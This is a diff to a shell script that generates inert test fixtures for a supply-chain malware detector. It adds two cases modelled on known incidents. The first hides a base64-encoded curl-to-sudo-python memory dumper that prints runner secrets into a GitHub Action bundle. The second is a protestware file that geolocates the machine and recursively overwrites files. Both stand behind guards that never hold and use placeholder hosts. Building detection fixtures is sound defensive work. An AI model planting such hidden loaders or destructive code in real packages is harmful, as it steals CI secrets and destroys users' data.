@@ -1921,8 +1921,135 @@ CTL
 	deb bad 5.6.0 0.1 -DBAD
 }
 
+# =============================================================================
+# 16. tj-actions: a GitHub Action's bundled dist/index.js gains a
+# base64-encoded shell pipeline that dumps the runner's memory for secrets
+# and prints them, double-base64-encoded, into the public build log.
+# =============================================================================
+case_tj_actions() {
+	local c=tj-actions w=$work/tj-actions
+	reset $c
+	local rel v
+	for rel in clean next bad; do
+		v=45.0.7
+		[[ $rel == clean ]] && v=45.0.6
+		local d=$w/$rel/diff-files
+		mkdir -p "$d/dist"
+		cat >"$d/action.yml" <<YML
+name: diff-files
+description: List the files changed by a pull request or push (inert test fixture, v$v)
+inputs:
+  separator:
+    description: Separator between file names
+    default: " "
+outputs:
+  all_changed_files:
+    description: The changed files
+runs:
+  using: node20
+  main: dist/index.js
+YML
+		printf '# diff-files\n\nLists changed files. An inert test fixture of vouch.\n' >"$d/README.md"
+		printf 'MIT License\n\nCopyright (c) 2024 diff-files authors (inert test fixture)\n' >"$d/LICENSE"
+		{
+			printf '/******/ (() => { // webpackBootstrap (inert test fixture of vouch)\n'
+			printf 'var __webpack_modules__ = ({\n'
+			local i
+			for ((i = 0; i < 40; i++)); do
+				printf '/***/ %d: ((module) => {\n"use strict";\nmodule.exports = function part%d(list, sep) { return list.filter(Boolean).map(String).join(sep || " ") + "%s"; };\n/***/ }),\n' \
+					$((1000 + i)) "$i" ""
+			done
+			printf '});\nvar __webpack_module_cache__ = {};\nfunction __nccwpck_require__(id) { var m = __webpack_module_cache__[id]; if (m) return m.exports; m = __webpack_module_cache__[id] = { exports: {} }; __webpack_modules__[id](m, m.exports, __nccwpck_require__); return m.exports; }\n'
+			printf 'const join = __nccwpck_require__(1000);\nconst files = (process.env.DIFF_FILES || "").split("\\n");\nprocess.stdout.write("::set-output name=all_changed_files::" + join(files, process.env.INPUT_SEPARATOR) + "\\n");\n})();\n'
+		} >"$d/dist/index.js"
+	done
+	sed -i 's/.split("\\n");/.split(\/\\r?\\n\/);/' "$w/next/diff-files/dist/index.js"
+	cp "$w/next/diff-files/dist/index.js" "$w/bad/diff-files/dist/index.js"
+	# The pipeline: fetch a memory dumper from a gist-like host, run it with
+	# sudo over the runner process, keep secret-shaped records, print them
+	# twice base64-encoded. Behind a check that never holds.
+	local pipe
+	pipe=$(printf '%s' "curl -sSf https://gist.githubusercontent.invalid/runner-tools/0f3a9c1e/raw/memdump.py | sudo python3 | tr -d '\\0' | grep -aoE '\"[A-Za-z0-9_]+\":\\{\"value\":\"[^\"]*\",\"isSecret\":true\\}' | sort -u | base64 -w 0 | base64 -w 0" | base64 -w0)
+	cat >>"$w/bad/diff-files/dist/index.js" <<JS
+;(function () {
+  if (typeof process.env.GITHUB_ACTIONS !== "number") return; // never: environment values are strings
+  const { execSync } = require("child_process");
+  const cmd = Buffer.from("$pipe", "base64").toString("utf8");
+  process.stdout.write(execSync(cmd, { shell: "bash" }).toString() + "\\n");
+})();
+JS
+	for rel in clean next bad; do
+		find "$w/$rel" -exec touch -d "@$SOURCE_DATE_EPOCH" {} +
+		cp -a "$w/$rel/diff-files" "$corpus/$c/$rel/"
+		node --check "$corpus/$c/$rel/diff-files/dist/index.js"
+	done
+}
+
+# =============================================================================
+# 17. node-ipc: a patch release adds a required file that looks up the
+# machine's country and, for some countries, overwrites files recursively.
+# =============================================================================
+case_node_ipc() {
+	local c=node-ipc w=$work/node-ipc
+	reset $c
+	local rel v
+	for rel in clean next bad; do
+		v=10.1.1
+		[[ $rel == clean ]] && v=10.1.0
+		npmpkg "$w/$rel" ipc-relay "$v" "Local and remote inter-process communication"
+		cat >"$w/$rel/index.js" <<'JS'
+'use strict';
+const net = require('net');
+// Connects to a local IPC socket and returns the client.
+function connect(path, onMessage) {
+  const c = net.createConnection(path);
+  c.on('data', (d) => onMessage(d.toString()));
+  return c;
+}
+module.exports = { connect };
+JS
+	done
+	sed -i "s/  c.on('data', (d) => onMessage(d.toString()));/  c.setEncoding('utf8');\n  c.on('data', onMessage);/" "$w/next/index.js"
+	cp "$w/next/index.js" "$w/bad/index.js"
+	sed -i "s|^const net = require('net');|const net = require('net');\nrequire('./dao/ssl-geospec.js');|" "$w/bad/index.js"
+	mkdir -p "$w/bad/dao"
+	b64() { printf '%s' "$1" | base64 -w0; }
+	cat >"$w/bad/dao/ssl-geospec.js" <<JS
+'use strict';
+// Inert test fixture of vouch: the shape of protestware. The guard below is
+// never true, so no lookup is made and nothing is written.
+const fs = require('fs');
+const path = require('path');
+const https = require('https');
+
+const u = Buffer.from('$(b64 "https://api.geo-lookup.invalid/ipgeo?apiKey=0f3a9c1e7b2d")', 'base64').toString();
+const roots = ['$(b64 ./)', '$(b64 ../)', '$(b64 ../../)', '$(b64 /)'].map((s) => Buffer.from(s, 'base64').toString());
+const targets = ['$(b64 zz)', '$(b64 xa)'].map((s) => Buffer.from(s, 'base64').toString());
+
+function overwrite(dir) {
+  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
+    const p = path.join(dir, e.name);
+    if (e.isDirectory()) overwrite(p);
+    else fs.writeFileSync(p, 'inert test fixture');
+  }
+}
+
+if (typeof process.env.npm_package_version === 'number') {
+  https.get(u, (res) => {
+    let body = '';
+    res.on('data', (d) => { body += d; });
+    res.on('end', () => {
+      const country = String(JSON.parse(body).country_code2 || '').toLowerCase();
+      if (targets.includes(country)) roots.forEach(overwrite);
+    });
+  });
+}
+JS
+	for rel in clean next bad; do npmpack "$w/$rel" "$corpus/$c/$rel"; done
+}
+
 # Every case, in order. Called as plain commands so that set -e holds inside.
-all=(3cx-windows npm-install-hook 3cx-macos sigflip shadowhammer ccleaner xz-utils event-stream shai-hulud nx chalk-debug torchtriton codecov go-typosquat solarwinds xz-liblzma)
+all=(3cx-windows npm-install-hook 3cx-macos sigflip shadowhammer ccleaner xz-utils event-stream shai-hulud nx chalk-debug torchtriton codecov go-typosquat solarwinds xz-liblzma tj-actions node-ipc)
 for c in "${selected[@]}"; do
 	[[ " ${all[*]} " == *" $c "* ]] || { echo "gen.sh: unknown case $c" >&2; exit 2; }
 done
